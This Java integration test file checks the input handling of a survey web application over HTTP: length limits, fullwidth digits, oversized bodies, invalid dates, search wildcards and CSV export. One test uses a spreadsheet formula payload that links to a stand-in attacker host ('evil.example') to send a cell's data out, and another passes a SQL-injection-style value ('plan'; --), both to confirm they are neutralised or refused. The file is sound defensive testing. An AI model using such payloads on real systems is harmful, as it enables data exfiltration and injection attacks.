package org.npsloop.web.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URL;
import java.net.http.HttpResponse;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The security regression suite over HTTP, on PostgreSQL: each section holds one promise of README's
 * "Security and privacy" section, as an attacker or a careful customer would check it. One deployment
 * for all of them (each Payara Micro boot costs ~15 s); every test makes its own users and data, so that
 * it holds whatever else the shared test database contains.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
@EnabledIfSystemProperty(named = "it.execution", matches = "postgresql")
class SecurityIT {

    @ArquillianResource
    URL base;

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.applicationWar();
    }

    // ---------------------------------------------------------------------------------------------
    // 2. No cross-site requests; 3. Login that resists guessing.
    // ---------------------------------------------------------------------------------------------



    // ---------------------------------------------------------------------------------------------
    // 4. Webhook without SSRF.
    // ---------------------------------------------------------------------------------------------



    // ---------------------------------------------------------------------------------------------
    // 5. Erasure that erases.
    // ---------------------------------------------------------------------------------------------



    // ---------------------------------------------------------------------------------------------
    // 6. A public synthesis that never exposes a person.
    // ---------------------------------------------------------------------------------------------



    // ---------------------------------------------------------------------------------------------
    // 7. Bad input gets a clear 4xx.
    // ---------------------------------------------------------------------------------------------

    /** A French contact with an invitation whose link is open; returns the link's token. */
    private String invitedToAnswer(WebClient api, String run) {
        String surveyId = CampaignApi.survey(api, run);
        String listId = AudienceApi.id(api.sendJson("POST", "api/lists", "{\"name\":\"" + run + "\"}"));
        String contactId = AudienceApi.id(api.sendJson("POST", "api/contacts", "{\"email\":\"" + run
                + "@exemple.fr\",\"firstName\":\"Zo\u00e9\",\"language\":\"FR\"}"));
        String campaignId = AudienceApi.id(api.sendJson("POST", "api/campaigns", "{\"name\":\"" + run + "\",\"surveyId\":"
                + surveyId + ",\"listId\":" + listId + "}"));
        org.npsloop.domain.campaign.InvitationToken token = org.npsloop.domain.campaign.InvitationToken.generate();
        // Sent an hour ago, as the dispatcher would have: no mail server needed to test the answer page.
        assertEquals(1, Respondents.update("INSERT INTO invitation (id, campaign_id, contact_id, wave, kind, status, token_hash, due_at,"
                + " sent_at, attempts, created_at, version, reminder) VALUES (nextval('invitation_seq'), ?, ?, 1, 'INITIAL', 'SENT', ?,"
                + " CURRENT_TIMESTAMP - INTERVAL '1 hour', CURRENT_TIMESTAMP - INTERVAL '1 hour', 1, CURRENT_TIMESTAMP, 0, 0)",
                Long.valueOf(campaignId), Long.valueOf(contactId), token.hash()));
        return token.secret();
    }

    private static String form(String text) {
        return java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8);
    }

    @Test
    void aCommentOverTheLimitIsRefusedInTheSurveysLanguageAndNothingIsStoredNorCut() {
        WebClient api = AudienceApi.marketer(base);
        String token = invitedToAnswer(api, Deployments.unique("sec7-comment"));
        HttpResponse<String> page = Respondents.get(base, "r/" + token + "?score=9", "en");
        assertTrue(page.body().contains("maxlength=\"2000\"") && page.body().contains("caract\u00e8res au plus"), page.body());

        String tooLong = "\uD83D\uDE00".repeat(2000) + "!";
        HttpResponse<String> refused = Respondents.post(base, "r/" + token, "score=9&comment=" + form(tooLong), "en");
        assertEquals(400, refused.statusCode(), refused.body());
        assertTrue(refused.body().contains("<html lang=\"fr\">") && refused.body().contains("Votre commentaire d\u00e9passe"),
                "the contact's language, not the browser's: " + refused.body());
        assertTrue(refused.body().contains(tooLong + "</textarea>"), "what was typed is given back, whole");
        assertNull(Respondents.response(token), "nothing stored, not even the score");

        // 2,000 emojis are 2,000 characters: kept whole; characters XML cannot hold are removed.
        String emojis = "\uD83D\uDE00".repeat(1999) + "\u0001\u000B!";
        assertEquals(303, Respondents.post(base, "r/" + token, "score=9&comment=" + form(emojis), "en").statusCode());
        assertEquals("\uD83D\uDE00".repeat(1999) + "!", Respondents.response(token).get("comment_text"));
    }

    @Test
    void aFullwidthDigitIsNotAScore() {
        WebClient api = AudienceApi.marketer(base);
        String run = Deployments.unique("sec7-score");
        String token = invitedToAnswer(api, run);
        HttpResponse<String> refused = Respondents.post(base, "r/" + token, "score=" + form("\uFF19"), "fr");
        assertEquals(400, refused.statusCode(), refused.body());
        assertTrue(refused.body().contains("Note invalide"), refused.body());
        assertNull(Respondents.response(token), "Integer.parseInt(\"\uFF19\") is 9: it must not become an answer");
        assertEquals(400, Respondents.get(base, "r/" + token + "?score=" + form("\u0669"), "en").statusCode());

        HttpResponse<String> typed = api.sendJson("POST", "api/responses", "{\"email\":\"" + run + "@exemple.fr\",\"score\":\"\uFF19\","
                + "\"respondedAt\":\"2026-01-05T10:00:00Z\"}");
        assertEquals(400, typed.statusCode(), typed.body());
        HttpResponse<String> longComment = api.sendJson("POST", "api/responses", "{\"email\":\"" + run + "@exemple.fr\",\"score\":9,"
                + "\"comment\":\"" + "x".repeat(2001) + "\",\"respondedAt\":\"2026-01-05T10:00:00Z\"}");
        assertEquals(400, longComment.statusCode(), longComment.body());
        assertTrue(longComment.body().contains("\"field\":\"comment\""), longComment.body());
    }

    /** A raw request declaring a body it does not send: the filter answers from the Content-Length alone. */
    private String declaringHugeBody(String path, String contentType) throws java.io.IOException {
        try (java.net.Socket socket = new java.net.Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(10_000);
            String request = "POST " + base.getPath() + path + " HTTP/1.1\r\nHost: " + base.getHost() + ":" + base.getPort()
                    + "\r\nContent-Type: " + contentType + "\r\nAccept-Language: fr\r\nContent-Length: 60000000\r\n\r\n";
            socket.getOutputStream().write(request.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            java.io.ByteArrayOutputStream answer = new java.io.ByteArrayOutputStream();
            byte[] buffer = new byte[8192];
            java.io.InputStream in = socket.getInputStream();
            try {
                for (int n; (n = in.read(buffer)) > 0 && !answer.toString(java.nio.charset.StandardCharsets.UTF_8).contains("</html>")
                        && !answer.toString(java.nio.charset.StandardCharsets.UTF_8).endsWith("}"); ) {
                    answer.write(buffer, 0, n);
                }
            } catch (java.net.SocketTimeoutException | java.net.SocketException e) {
                // The server closed the connection after its answer: what was read is the answer.
            }
            return answer.toString(java.nio.charset.StandardCharsets.UTF_8);
        }
    }

    @Test
    void aBodyOverTheLimitGets413WithTheFriendlyPageOrJson() throws Exception {
        String page = declaringHugeBody("r/abcdefghijklmnopqrstuv", "application/x-www-form-urlencoded");
        assertTrue(page.startsWith("HTTP/1.1 413"), page);
        assertTrue(page.contains("Envoi trop volumineux"), "the friendly page, in the visitor's language: " + page);
        String json = declaringHugeBody("api/contacts", "application/json");
        assertTrue(json.startsWith("HTTP/1.1 413"), json);
        assertTrue(json.contains("\"status\":413"), json);

    }

    @Test
    void aBadReportParameterIsA400NamingIt() {
        WebClient api = AudienceApi.marketer(base);
        HttpResponse<String> dimension = api.get("api/reports/breakdown?dimension=COLOUR");
        assertEquals(400, dimension.statusCode(), dimension.body());
        assertTrue(dimension.body().contains("\"field\":\"dimension\""), dimension.body());
        HttpResponse<String> malformed = api.get("api/reports/dashboard?attribute=" + form("plan'; --") + "&value=x");
        assertEquals(400, malformed.statusCode(), malformed.body());
        assertTrue(malformed.body().contains("\"field\":\"attribute\""), malformed.body());
        HttpResponse<String> unknown = api.get("api/reports/dashboard?attribute=" + Deployments.unique("nothing").replace('-', '_')
                + "&value=x");
        assertEquals(400, unknown.statusCode(), unknown.body());
        assertTrue(unknown.body().contains("\"field\":\"attribute\""), unknown.body());
        HttpResponse<String> by = api.get("api/reports/breakdown?dimension=ATTRIBUTE&by=no_such_attribute_at_all");
        assertEquals(400, by.statusCode(), by.body());
        assertTrue(by.body().contains("\"field\":\"by\""), by.body());
    }

    /** The status of a started CSV import once it has finished (or after 20 s). */
    private static String finishedImport(WebClient api, HttpResponse<String> started) throws InterruptedException {
        assertEquals(202, started.statusCode(), started.body());
        String status = "";
        for (int i = 0; i < 80 && !status.contains("\"status\":\"DONE\"") && !status.contains("FAILED"); i++) {
            Thread.sleep(250);
            status = api.get("api/imports/" + AudienceApi.id(started)).body();
        }
        return status;
    }

    @Test
    void the31stOfFebruaryIsRefusedByTheApiAndByAnImportWithItsLine() throws Exception {
        WebClient api = AudienceApi.marketer(base);
        String run = Deployments.unique("sec7-date");
        String attribute = "d_" + run.replaceAll("[^A-Za-z0-9]", "_").toLowerCase(java.util.Locale.ROOT);
        assertEquals(201, api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-a@exemple.fr\",\"attributes\":{\""
                + attribute + "\":\"2025-02-28\"}}").statusCode());
        HttpResponse<String> refused = api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-b@exemple.fr\",\"attributes\":{\""
                + attribute + "\":\"31/02/2025\"}}");
        assertEquals(400, refused.statusCode(), refused.body());
        assertTrue(refused.body().contains("\"field\":\"attributes." + attribute + "\""), refused.body());
        assertTrue(api.get("api/contacts?q=" + run + "-b").body().contains("\"total\":0"), "not stored as 28 February");

        String csv = "email;" + attribute + "\r\n" + run + "-c@exemple.fr;28/02/2025\r\n" + run + "-d@exemple.fr;31/02/2025\r\n";
        String mapping = "{\"email\":0,\"attributes\":[{\"column\":1,\"name\":\"" + attribute + "\",\"type\":\"DATE\"}]}";
        HttpResponse<String> started = api.send("POST", "api/imports?fileName=dates.csv&mapping=" + form(mapping), "text/csv",
                csv.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        String jobId = AudienceApi.id(started);
        String status = finishedImport(api, started);
        assertTrue(status.contains("\"imported\":1") && status.contains("\"rejected\":1"), status);
        String report = api.get("api/imports/" + jobId + "/report").body();
        assertTrue(report.contains("3;" + attribute + ": not a date"), report);
    }

    @Test
    void percentAndUnderscoreInASearchMatchThemselves() {
        WebClient api = AudienceApi.marketer(base);
        String run = Deployments.unique("sec7-like");
        api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-a@exemple.fr\",\"lastName\":\"" + run + " 50% off\"}");
        api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-b@exemple.fr\",\"lastName\":\"" + run + " 500 off\"}");
        api.sendJson("POST", "api/contacts", "{\"email\":\"" + run + "-c@exemple.fr\",\"lastName\":\"" + run + " 5X0 off\"}");
        String percent = api.get("api/contacts?q=" + form(run + " 50%")).body();
        assertTrue(percent.contains("\"total\":1") && percent.contains(run + "-a@"), percent);
        String underscore = api.get("api/contacts?q=" + form(run + " 5_0")).body();
        assertTrue(underscore.contains("\"total\":0"), underscore);
    }

    @Test
    void aContactNamedLikeAFormulaIsExportedInertAndImportsBackAsItWas() throws Exception {
        WebClient api = AudienceApi.marketer(base);
        String run = Deployments.unique("sec7-csv");
        String listId = AudienceApi.id(api.sendJson("POST", "api/lists", "{\"name\":\"" + run + "\"}"));
        String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1;\\\"x\\\")";
        assertEquals(200, api.sendJson("POST", "api/contacts/bulk", "{\"listId\":" + listId + ",\"contacts\":[{\"email\":\"" + run
                + "@exemple.fr\",\"firstName\":\"" + formula + "\",\"lastName\":\"-Dupont\"}]}").statusCode());
        String exported = api.get("api/lists/" + listId + "/export").body();
        assertTrue(exported.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"x\"\")\"") && exported.contains(";'-Dupont;"), exported);

        // The export imported again (into the same contacts) leaves the names as they were.
        HttpResponse<String> started = api.send("POST", "api/imports?fileName=export.csv", "text/csv",
                exported.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        String status = finishedImport(api, started);
        assertTrue(status.contains("\"status\":\"DONE\"") && status.contains("\"rejected\":0"), status);
        String contact = api.get("api/contacts?q=" + run).body();
        assertTrue(contact.contains("\"firstName\":\"=HYPERLINK(") && contact.contains("\"lastName\":\"-Dupont\""), contact);
    }

    // ---------------------------------------------------------------------------------------------
    // 8. Smaller doors.
    // ---------------------------------------------------------------------------------------------



    // ---------------------------------------------------------------------------------------------
    // End of sections.
    // ---------------------------------------------------------------------------------------------
}
